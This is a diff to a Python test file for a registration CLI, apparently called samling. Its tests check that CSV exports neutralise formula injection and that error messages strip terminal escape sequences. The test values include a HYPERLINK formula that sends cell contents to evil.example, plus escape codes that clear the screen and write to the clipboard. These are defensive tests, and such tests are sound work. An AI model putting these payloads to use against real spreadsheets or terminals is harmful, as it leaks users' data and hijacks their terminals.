@@ -178,7 +178,7 @@ def test_csv_cells_never_start_a_formula(net: Path, start: str) -> None:
     name = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
     _add_hostile(name)
     text = samling("registrations", "--csv").stdout
-    rows = list(csv.DictReader(io.StringIO(text)))
+    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))  # as Excel in Swedish
     assert [r["name"] for r in rows if r["participant"] == "x"] == ["'" + name]
     assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values() if v)
 
@@ -253,3 +253,21 @@ def test_a_fifo_as_record_does_not_hang(net: Path) -> None:
     samling("participant", "list")  # not a file: not listed
     with pytest.raises(InvalidRecord, match=r"ghost\.toml: is not a file"):
         Store(net).participants.load("ghost")
+
+
+def test_an_error_quoting_hostile_text_passes_no_escape_sequence_to_the_terminal(
+    net: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A name typed or pasted from a web form, quoted back in an error: shown without its escapes
+    (this one would clear the screen and put text on the clipboard)."""
+    from samling.cli.boundary import report
+
+    hostile = "\x1b[2J\x1b]52;c;ZXZpbA==\x07Åsa\x9b31m Öberg"
+    report(InvalidInput(f"no seat for {hostile}", f"ask {hostile}"))
+    shown = capsys.readouterr().err
+    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
+    assert shown == "error: no seat for Åsa Öberg\nhint: ask Åsa Öberg\n"
+    record = net / "participants" / "broken.toml"
+    record.write_text('name = "x"\nemail = "x@example.se"\nbogus\x1b[31m = 1\n', encoding="utf-8")
+    result = samling("check", ok=False)
+    assert "\x1b" not in result.output
